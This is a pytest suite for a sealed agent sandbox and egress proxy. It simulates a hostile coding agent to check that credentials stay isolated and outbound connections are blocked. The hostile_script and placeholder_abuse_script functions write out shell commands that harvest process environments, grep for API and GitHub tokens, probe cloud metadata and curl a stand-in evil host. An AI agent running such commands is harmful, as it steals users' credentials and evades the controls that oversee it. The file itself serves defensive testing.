# Long because one hostile agent's every way to a secret is checked against the real proxy and engine.
"""Sealed runs, attacked: the real image, the real Claude CLI, a real egress proxy process, a real engine.

The fake Anthropic API answers the agent's first turn with a Bash tool call that tries everything a hostile agent
would: print the environment, read the mounts and every process's environment, search the filesystem for
token-shaped strings, reach an "evil" server on 127.0.0.1 (directly, and through the proxy by name and by IP), and
write what it found into the workspace, which the run commits and a pull request pushes. The evil server must see
no connection; no credential may appear anywhere; yet the same run talked to the API and to the git server with
the real credentials, which only the proxy added.
"""

from __future__ import annotations

import base64
import json
import os
import signal
import socket
import subprocess
import tempfile
import threading
from pathlib import Path

import pytest

from execution.attempts import secret_dir
from execution.attempts.actions import do_request_pull_request
from execution.models import AttemptStatus, EgressBlock, JobStatus
from execution.runner import run_attempt, run_job
from shared.egress import HostPort
from shared.models import Alert
from tests.execution.conftest import logs, sealed_mode, when_step_runs
from tests.fakes.anthropic_api import TextReply, ToolUseReply
from tests.fakes.git_http import basic_credentials
from tests.fakes.github import FakeGitHub
from tests.fixtures.processes import start_egress_proxy, subprocess_env
from tests.fixtures.queueing import held_from_workers

pytestmark = [pytest.mark.docker, pytest.mark.django_db(transaction=True), pytest.mark.hostile]


class CountingServer:
    """A TCP server on 127.0.0.1 that only counts the connections it accepts (the "evil" host)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.sock.close()


@pytest.fixture
def evil():
    server = CountingServer()
    yield server
    server.close()


@pytest.fixture
def sealed(world, github: FakeGitHub, settings):
    """Sealed mode with this test's own egress proxy process (short paths: UNIX socket paths are at most 107 bytes)."""
    temp, control = sealed_mode(settings, world, github.url, prefix="as-")
    env = subprocess_env(ANYON_EGRESS_CONTROL=str(control), ANYON_TEMP_DIR=str(temp))
    proxy = start_egress_proxy("egress-proxy", control, env)
    yield proxy
    proxy.stop()


@pytest.fixture
def repo(world, github: FakeGitHub) -> str:
    github.add_token(world.github_token, login="alice-gh")
    return github.add_repo("acme", "widgets", {"README.md": "# widgets\n"})


def hostile_script(evil_port: int) -> str:
    return f"""
exec > /workspace/loot.txt 2>&1
echo '== env'; env
echo '== proc environ'; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null; done
echo '== mounts'; ls -la /run/anyon-secrets; cat /run/anyon-secrets/* 2>/dev/null
echo '== files'; grep -rIaoE 'sk-ant-[A-Za-z0-9_-]{{20,}}|gh[pousr]_[A-Za-z0-9]{{30,}}' \\
  /home /workspace /run /etc /tmp /root 2>/dev/null | head -100
echo '== direct'; curl -sS -m 5 http://127.0.0.1:{evil_port}/direct
echo '== proxy by ip'; curl -sS -m 5 --noproxy '' -p -x http://127.0.0.1:18082 http://127.0.0.1:{evil_port}/by-ip
echo '== proxy by name'; curl -sS -m 5 --noproxy '' -p -x http://127.0.0.1:18082 http://localhost:{evil_port}/by-name
echo '== proxy plain'; curl -sS -m 5 --noproxy '' -x http://127.0.0.1:18082 http://127.0.0.1:{evil_port}/plain
echo '== metadata'; curl -sS -m 5 --noproxy '' -p -x http://127.0.0.1:18082 http://metadata.google.internal/computeMetadata/v1/
echo done
"""


def test_a_hostile_agent_finds_no_credential_and_reaches_no_other_host(world, repo, sealed, evil, github):
    world.api.enqueue(
        ToolUseReply("Bash", {"command": hostile_script(evil.port), "description": "look around"}),
        TextReply("Looked around."),
    )
    attempt = world.attempt(repo_url=repo, prompt="Improve the README")
    assert run_attempt(attempt.pk) == AttemptStatus.SUCCEEDED, logs(attempt)
    attempt.refresh_from_db()
    text = logs(attempt)
    assert "Sealed run" in text
    # The agent's loot, committed to the workspace: what it could read.
    loot_file = next(f for f in attempt.diff if f["path"] == "loot.txt")
    loot = loot_file["patch"]
    assert "== done" in loot or "done" in loot
    assert "anyon-sealed-placeholder" in loot  # it saw the placeholder, which is all there was
    assert "***" not in loot  # nothing in it had to be masked: there was no credential to find
    for value in world.values:
        for form in (value, base64.b64encode(value.encode()).decode()):
            assert form not in loot
    # The evil server saw nothing; the refusals are in the log and counted.
    assert evil.connections == 0
    assert f"blocked: 127.0.0.1:{evil.port}" in text and f"blocked: localhost:{evil.port}" in text
    assert EgressBlock.objects.filter(attempt=attempt).count() >= 2
    # Yet the run used both credentials, added by the proxy only.
    assert world.api.credentials() == {world.claude_token}
    clones = github.git_requests()
    assert clones and all(basic_credentials(r.headers.get("authorization"))[1] == world.github_token for r in clones)
    # The pull request pushes the committed loot: the guard finds no credential in it, and the push goes through.
    with held_from_workers():
        job = do_request_pull_request(attempt=attempt)
    assert run_job(job.pk) == JobStatus.SUCCEEDED, logs(attempt)
    pushed = subprocess.run(
        ["git", "--git-dir", str(github.repo_path("acme", "widgets")), "show", f"{attempt.branch}:loot.txt"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert all(value not in pushed for value in world.values)
    assert not secret_dir.secret_dir_path(attempt.pk).exists()


def test_a_commit_carrying_a_credential_is_never_pushed(world, repo, sealed, github):
    encoded = base64.b64encode(world.github_token.encode()).decode()
    world.api.enqueue(
        ToolUseReply("Bash", {"command": f"echo 'token: {encoded}' > notes.txt", "description": "write"}),
        TextReply("Wrote notes."),
    )
    attempt = world.attempt(repo_url=repo, prompt="Write notes")
    assert run_attempt(attempt.pk) == AttemptStatus.SUCCEEDED, logs(attempt)
    attempt.refresh_from_db()
    with held_from_workers():
        job = do_request_pull_request(attempt=attempt)
    assert run_job(job.pk) == JobStatus.FAILED
    job.refresh_from_db()
    assert "Push refused" in job.error and "Nothing was pushed" in job.error
    refs = subprocess.run(
        ["git", "--git-dir", str(github.repo_path("acme", "widgets")), "branch", "--list", attempt.branch],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert refs.strip() == ""  # nothing left
    assert Alert.objects.filter(kind="push_refused_secret", attempt_id=attempt.pk).exists()


def test_the_proxy_killed_mid_run_fails_the_run_with_a_reason_and_an_alert(world, repo, sealed, docker_client):
    plan = [{"kind": "custom", "title": "long step", "argv": ["sleep", "60"]}]
    attempt = world.attempt(plan=plan, repo_url=repo)
    when_step_runs(docker_client, attempt.pk, "sleep", lambda: sealed.proc.send_signal(signal.SIGKILL))
    assert run_attempt(attempt.pk) == AttemptStatus.FAILED
    attempt.refresh_from_db()
    assert "egress proxy" in attempt.error and "stopped during the step" in attempt.error
    assert Alert.objects.filter(kind="egress_proxy_down").exists()
    assert not secret_dir.secret_dir_path(attempt.pk).exists()


def test_without_a_running_proxy_a_sealed_run_does_not_start(world, repo, settings):
    settings.ANYON_CREDENTIAL_MODE = "sealed"
    settings.ANYON_EGRESS_CONTROL = str(Path(tempfile.mkdtemp(prefix="as-")) / "none.sock")
    attempt = world.attempt(plan=[{"kind": "custom", "title": "x", "argv": ["true"]}], repo_url=repo)
    assert run_attempt(attempt.pk) == AttemptStatus.FAILED
    attempt.refresh_from_db()
    assert "egress proxy is not answering" in attempt.error and not attempt.container_id
    assert Alert.objects.filter(kind="egress_proxy_down").exists()
    assert not secret_dir.secret_dir_path(attempt.pk).exists()


def test_two_users_at_once_each_run_carries_only_its_own_users_credential(world, repo, sealed, bob, github):
    """Alice's and Bob's sealed runs at the same time through one proxy: every request the API sees carries the
    credential of the user whose prompt it is, and the finished attempts' sockets are gone."""
    import threading as threads

    from execution.attempts.actions import do_create_task, do_start_attempt
    from secrets_app.secret_store import do_store_secret
    from tests.execution.conftest import oauth_token
    from tests.fakes.github import classic_token

    bob_token = oauth_token()
    do_store_secret(owner=bob, provider="claude", kind="oauth_token", value=bob_token)
    bob_github = github.add_token(classic_token(), login="bob-gh")
    do_store_secret(owner=bob, provider="github", kind="pat", value=bob_github)
    world.api.expected_token = None  # this fake answers both users; the test attributes each request itself
    bobs_task = do_create_task(owner=bob, title="b", repo_url=repo, base_branch="main", prompt="Bob asks: say pong")
    alices = world.attempt(repo_url=repo, prompt="Alice asks: say pong")
    with held_from_workers():
        bobs = do_start_attempt(task=bobs_task)
    attempts = {world.claude_token: alices, bob_token: bobs}
    results: dict[str, str] = {}
    runners = [
        threads.Thread(target=lambda t=token, a=attempt: results.__setitem__(t, run_attempt(a.pk)))
        for token, attempt in attempts.items()
    ]
    for runner in runners:
        runner.start()
    for runner in runners:
        runner.join(120)
    assert set(results.values()) == {AttemptStatus.SUCCEEDED}, {t[-6:]: logs(a) for t, a in attempts.items()}
    turns = [r for r in world.api.messages_requests() if r.is_agent_turn]
    assert turns
    for request in turns:
        asked = str(request.json["messages"][0]["content"])
        owner_token = world.claude_token if "Alice asks" in asked else bob_token
        assert "Alice asks" in asked or "Bob asks" in asked
        assert request.credential == owner_token
    assert {r.credential for r in turns} == {world.claude_token, bob_token}
    git_tokens = {basic_credentials(r.headers.get("authorization"))[1] for r in github.git_requests()}
    assert git_tokens == {world.github_token, bob_github}  # each clone with its own user's token, added by the proxy
    for attempt in attempts.values():
        assert not secret_dir.secret_dir_path(attempt.pk).exists()


def test_with_the_operators_opt_in_the_agent_reads_its_own_repository_through_the_api(
    world, repo, sealed, github, settings
):
    """``ANYON_AGENT_GITHUB_API=true``: the agent's curl reaches the REST API of its task's repository with the
    token added by the proxy; another repository is refused and logged; the container still holds no token."""
    settings.ANYON_AGENT_GITHUB_API = True
    github.add_repo("acme", "private-other")
    script = (
        "exec > /workspace/api.txt 2>&1; env | grep GITHUB_API_URL; "
        'curl -sS -m 10 "$GITHUB_API_URL/repos/acme/widgets"; echo; '
        'curl -sS -m 10 -o /dev/null -w "other %{http_code}\\n" "$GITHUB_API_URL/repos/acme/private-other"'
    )
    world.api.enqueue(ToolUseReply("Bash", {"command": script, "description": "read"}), TextReply("Read it."))
    attempt = world.attempt(repo_url=repo, prompt="Read the repository")
    assert run_attempt(attempt.pk) == AttemptStatus.SUCCEEDED, logs(attempt)
    attempt.refresh_from_db()
    seen = next(f for f in attempt.diff if f["path"] == "api.txt")["patch"]
    assert "GITHUB_API_URL=http://127.0.0.1:18083" in seen
    assert '"full_name": "acme/widgets"' in seen and "other 403" in seen
    assert all(value not in seen for value in world.values)
    api_reads = [r for r in github.requests if r.path.startswith("/api/repos/")]
    assert [r.path for r in api_reads] == ["/api/repos/acme/widgets"]
    assert api_reads[0].headers["authorization"] == f"Bearer {world.github_token}"
    assert "refused /repos/acme/private-other" in logs(attempt)


def test_without_the_opt_in_the_agent_has_no_github_api(world, repo, sealed, github):
    script = 'exec > /workspace/api.txt 2>&1; echo "url=${GITHUB_API_URL-none}"; curl -sS -m 5 http://127.0.0.1:18083/'
    world.api.enqueue(ToolUseReply("Bash", {"command": script, "description": "read"}), TextReply("Tried."))
    attempt = world.attempt(repo_url=repo, prompt="Read the repository")
    assert run_attempt(attempt.pk) == AttemptStatus.SUCCEEDED, logs(attempt)
    attempt.refresh_from_db()
    seen = next(f for f in attempt.diff if f["path"] == "api.txt")["patch"]
    assert "url=none" in seen and "curl: (" in seen  # no socket behind the port: the connection ends at once
    assert not [r for r in github.requests if r.path.startswith("/api/repos/")]


def _peak_rss_kib(pid: int) -> int:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(next(line.split()[1] for line in status.splitlines() if line.startswith("VmHWM:")))


def test_a_100_mb_clone_and_push_go_through_the_proxy_streaming(world, repo, sealed, github, tmp_path):
    """100 MB of incompressible data is cloned through git.sock and 100 MB more pushed back, in a container with no
    network; the proxy process's peak memory grows by far less than what went through it (nothing is buffered)."""
    from execution.attempts.steps import default_plan

    bare = github.repo_path("acme", "widgets")
    work = tmp_path / "seed"
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run(["git", "clone", "-q", str(bare), str(work)], check=True)
    (work / "big.bin").write_bytes(os.urandom(100 * 1024 * 1024))
    subprocess.run([*git, "-C", str(work), "add", "big.bin"], check=True)
    subprocess.run([*git, "-C", str(work), "commit", "-qm", "100 MB"], check=True)
    subprocess.run(["git", "-C", str(work), "push", "-q", "origin", "HEAD:main"], check=True)
    rss_before = _peak_rss_kib(sealed.proc.pid)

    attempt = world.attempt(repo_url=repo)
    clone, branch, _agent = default_plan(repo_url=repo, base_branch="main", attempt_id=attempt.pk)
    write = ["sh", "-c", "head -c 104857600 /dev/urandom > more.bin && git add more.bin && "
             "git -c user.name=a -c user.email=a@a commit -qm more && git rev-parse HEAD"]  # fmt: skip
    push = ["git", "push", "--porcelain", "origin", f"HEAD:refs/heads/{attempt.branch}"]  # a plan's pushing step
    attempt.plan = [clone.to_plan(), branch.to_plan(), {"kind": "custom", "title": "write", "argv": write},
                    {"kind": "custom", "title": "push", "argv": push, "pushes": True}]  # fmt: skip
    attempt.save(update_fields=["plan"])
    assert run_attempt(attempt.pk) == AttemptStatus.SUCCEEDED, logs(attempt)

    pushed = subprocess.run(
        ["git", "--git-dir", str(bare), "cat-file", "-s", f"{attempt.branch}:more.bin"],
        capture_output=True, text=True, check=True,
    ).stdout  # fmt: skip
    assert int(pushed) == 104857600
    growth_mib = (_peak_rss_kib(sealed.proc.pid) - rss_before) / 1024
    assert growth_mib < 40, f"the egress proxy's peak RSS grew by {growth_mib:.0f} MiB for 200 MB through it"
    assert all(
        basic_credentials(r.headers.get("authorization"))[1] == world.github_token for r in github.git_requests()
    )


#: The requests the Claude CLI of the runtime image makes in a sealed run (docs/ARCHITECTURE.md, "Egress").
CLI_REQUESTS = {("POST", "/v1/messages"), ("POST", "/v1/messages/count_tokens"), ("GET", "/v1/models")}


def test_the_real_cli_in_a_sealed_run_needs_nothing_the_api_socket_refuses(world, repo, sealed, github, tmp_path):
    """A normal run (a tool call, then an answer) through api.sock: every request the CLI made reached the API, none was
    refused, and each was one the API socket's policy allows."""
    from shared.egress.anthropic_policy import body_problem, request_problem

    world.api.enqueue(
        ToolUseReply("Bash", {"command": "echo hello > hello.txt", "description": "write"}), TextReply("Done.")
    )
    attempt = world.attempt(repo_url=repo, prompt="Write hello.txt")
    assert run_attempt(attempt.pk) == AttemptStatus.SUCCEEDED, logs(attempt)
    seen = world.api.requests
    assert any(r.is_agent_turn for r in seen)
    for request in seen:
        target = request.path + (f"?{request.query}" if request.query else "")
        assert request_problem(request.method, target) is None, target
        if request.method == "POST":
            assert body_problem(json.dumps(request.json).encode(), remote_fetch=False) is None, target
    assert {(r.method, r.path) for r in seen} <= CLI_REQUESTS
    api_host = HostPort.of_url(world.api.url)
    assert not EgressBlock.objects.filter(attempt=attempt, host=api_host.host, port=api_host.port).exists()
    (tmp_path / "cli-requests.json").write_text(
        json.dumps(
            [
                {"method": r.method, "path": r.path, "query": r.query, "beta": r.headers.get("anthropic-beta"),
                 "tools": sorted({str(t.get("type", "custom")) for t in (r.json or {}).get("tools") or []})}
                for r in seen
            ],
            indent=1,
        )
    )  # fmt: skip
    print("CLI requests:", (tmp_path / "cli-requests.json").read_text())


def placeholder_abuse_script() -> str:
    """What an agent does with the placeholder it reads from the CLI's own environment: other Anthropic endpoints and
    a Messages request that makes Anthropic fetch a URL, through ANTHROPIC_BASE_URL."""
    image = '{"type": "image", "source": {"type": "url", "url": "http://127.0.0.1:9/x.png"}}'
    body = f'{{"model": "m", "max_tokens": 1, "messages": [{{"role": "user", "content": [{image}]}}]}}'
    mcp = '{"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}], "mcp_servers": [{"type": "url", "url": "http://127.0.0.1:9/mcp", "name": "x"}]}'  # noqa: E501
    return f"""
exec > /workspace/abuse.txt 2>&1
P=$(for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null; done \\
  | sed -n 's/^CLAUDE_CODE_OAUTH_TOKEN=//p; s/^ANTHROPIC_API_KEY=//p' | head -1)
echo "placeholder=$P"
call() {{ curl -sS -m 10 -o /dev/null -w "$1 $2 %{{http_code}}\\n" -X "$1" -H "Authorization: Bearer $P" \\
  -H 'content-type: application/json' "$ANTHROPIC_BASE_URL$2" "${{@:3}}"; }}
call GET /v1/files
call GET /v1/organizations/me
call POST /v1/messages/batches -d '{{"requests": []}}'
call POST /v1/messages -d '{body}'
call POST /v1/messages -d '{mcp}'
call TRACE /v1/messages
call GET /api/oauth/profile
call POST /v1/messages --request-target http://127.0.0.1:9/v1/messages -d '{{}}'
echo done
"""


def test_a_hostile_agent_with_the_placeholder_reaches_no_other_anthropic_endpoint(world, repo, sealed, github):
    world.api.enqueue(
        ToolUseReply("Bash", {"command": placeholder_abuse_script(), "description": "look around"}),
        TextReply("Looked around."),
    )
    attempt = world.attempt(repo_url=repo, prompt="Improve the README")
    assert run_attempt(attempt.pk) == AttemptStatus.SUCCEEDED, logs(attempt)  # the run itself is unaffected
    attempt.refresh_from_db()
    seen = next(f for f in attempt.diff if f["path"] == "abuse.txt")["patch"]
    assert "placeholder=anyon-sealed-placeholder" in seen  # it found the placeholder, as in the attack
    for line in ("GET /v1/files 403", "GET /v1/organizations/me 403", "POST /v1/messages/batches 403",
                 "TRACE /v1/messages 403", "GET /api/oauth/profile 403"):  # fmt: skip
        assert line in seen, seen
    assert seen.count("POST /v1/messages 403") == 3, seen  # the url image, mcp_servers, the absolute-form target
    # Only the CLI's own requests reached the API, all with the real credential.
    assert {(r.method, r.path) for r in world.api.requests} <= CLI_REQUESTS
    assert world.api.credentials() == {world.claude_token}
    refused = EgressBlock.objects.filter(attempt=attempt, host=HostPort.of_url(world.api.url).host)
    assert refused.count() >= 7
    assert "refused GET /v1/files" in logs(attempt)
